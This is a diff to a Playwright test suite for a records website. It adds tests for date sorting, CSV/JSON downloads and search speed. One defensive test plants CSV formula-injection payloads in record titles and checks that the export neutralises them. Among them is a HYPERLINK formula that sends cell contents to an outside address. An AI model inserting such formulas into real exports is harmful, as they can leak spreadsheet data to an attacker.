@@ -112,6 +112,8 @@ ANSWERS = {
     ],
     "?pair=AZ+TR": ["--pair", "AZ", "TR"],
     "?pair=AZ+TR&type=meeting": ["--pair", "AZ", "TR", "--type", "meeting"],
+    "?sort=date": ["--sort", "date"],
+    "?text=health&sort=date": ["--sort", "date", "--text", "health"],
     "?region=EUR": ["--region", "EUR"],
     "?region=143&region=Northern+america": [
         *("--region", "Central Asia", "--region", "Northern America")
@@ -162,7 +164,7 @@ def test_each_address_finds_what_its_command_line_finds(
     page = open_page()
     differing = {}
     for address, options in ANSWERS.items():
-        command = ["list", "--sort", "-date", *options]
+        command = ["list", *([] if "--sort" in options else ["--sort", "-date"]), *options]
         ids = cli_invoke(*command, "-f", "ids").stdout.split()
         page.goto(f"{site_url}records/index.html{address}")
         line = page.locator("html:not(.searching) #line")
@@ -236,6 +238,82 @@ def test_filters_change_the_address_and_back_undoes_them(
     assert count(page) == everything
     page.go_forward()
     expect(page.locator("#line")).to_contain_text("--country CU")
+
+
+DOWNLOADED = ["--columns", "id,date,title,type,countries,organisations"]
+HOSTILE = (
+    '=HYPERLINK("https://example.org/?x="&A1; "Click, please")',
+    "+1 'and' -1",
+    "-2+3",
+    "@SUM(1, 2)",
+)
+
+
+def downloaded(page: "Page", name: str) -> bytes:
+    with page.expect_download() as download:
+        page.get_by_role("button", name=name).click()
+    assert download.value.suggested_filename == f"records.{name.lower()}"
+    return download.value.path().read_bytes()
+
+
+@pytest.mark.slow
+def test_results_are_downloaded_as_the_command_line_writes_them(
+    open_page: Pages, site_url: str, cli_invoke: Any, shared_cache: None, monkeypatch: Any
+) -> None:
+    monkeypatch.chdir(ROOT)
+    page = open_page()
+    for address, options in {
+        "?text=health&country=AZ": ["--sort", "-date", "--text", "health", "--country", "AZ"],
+        "?sort=date": ["--sort", "date"],
+    }.items():
+        page.goto(f"{site_url}records/index.html{address}")
+        command = ["list", *options, *DOWNLOADED]
+        expected = cli_invoke(*command, "-f", "csv").stdout.encode()
+        assert downloaded(page, "CSV") == expected
+        expected = cli_invoke(*command, "-f", "json").stdout
+        assert json.loads(downloaded(page, "JSON")) == json.loads(expected)
+    page.goto(f"{site_url}records/index.html?text=zzzz")
+    assert page.get_by_role("button", name="CSV").is_disabled()
+
+
+@pytest.mark.slow
+def test_downloaded_cells_cannot_be_formulas(
+    few_records: Path, tmp_path: Path, chromium: Any, cli_invoke: Any
+) -> None:
+    records = sorted((few_records / "records").rglob("*.yaml"))
+    for path, title in zip(records, HOSTILE, strict=True):
+        text = path.read_text(encoding="utf-8")
+        before, _, after = text.partition("\ntitle: ")
+        after = re.sub(r"\A.+(\n  .+)*", "", after)
+        text = f"{before}\ntitle: {json.dumps(title)}{after}"
+        path.write_text(text, encoding="utf-8")
+    with Dataset.open(few_records) as dataset:
+        dataset.build_site(tmp_path / "site", pyodide="none")
+    with served(tmp_path / "site") as address:
+        page = Pages(chromium, [address])(f"{address}records/index.html")
+        found = downloaded(page, "CSV")
+    command = ["--root", str(few_records), "list", "--sort", "-date", *DOWNLOADED]
+    assert found == cli_invoke(*command, "-f", "csv").stdout.encode()
+    assert found.count(b",\"'=") + sum(found.count(sign) for sign in (b",'+", b",'-", b"'@")) == 4
+
+
+@pytest.mark.slow
+def test_the_order_of_the_results_is_in_the_address(page: "Page", site_url: str) -> None:
+    from playwright.sync_api import expect
+
+    page.goto(f"{site_url}records/index.html?country=AZ")
+    newest = shown(page)
+    page.get_by_role("link", name="Oldest first").click()
+    expect(page.locator("#count")).to_contain_text("the oldest event first")
+    assert page.url.endswith("?country=AZ&sort=date")
+    assert shown(page) != newest
+    page.get_by_role("link", name="Newer").click()
+    expect(page.locator("#pages")).to_contain_text("Page 2")
+    assert page.url.endswith("&sort=date&page=2")
+    page.get_by_role("link", name="Newest first").click()
+    expect(page.locator("#count")).to_contain_text("the newest event first")
+    assert shown(page) == newest
+    assert page.url.endswith("?country=AZ")
 
 
 @pytest.mark.slow
@@ -432,12 +510,14 @@ def test_ten_thousand_records_answer_within_100_ms(tmp_path: Path, chromium: Any
     ]
     times: dict[str, list[float]] = defaultdict(list)
     with served(site) as address:
-        page = Pages(chromium, [address])(f"{address}records/index.html")
-        page.locator("#facets fieldset").first.wait_for()
-        for _ in range(6):
-            for text in texts:
-                times[text].append(page.evaluate(ANSWERED, text))
-                assert count(page) > 0, text
+        page = Pages(chromium, [address])()
+        for view in ("", "?region=EUR&region=Asia&sort=date"):
+            page.goto(f"{address}records/index.html{view}")
+            page.locator("#facets fieldset").first.wait_for()
+            for _ in range(6):
+                for text in texts:
+                    times[view + text].append(page.evaluate(ANSWERED, text))
+                    assert count(page) > 0, view + text
     assert {text: best for text, found in times.items() if (best := min(found[1:])) > 100} == {}
 
 
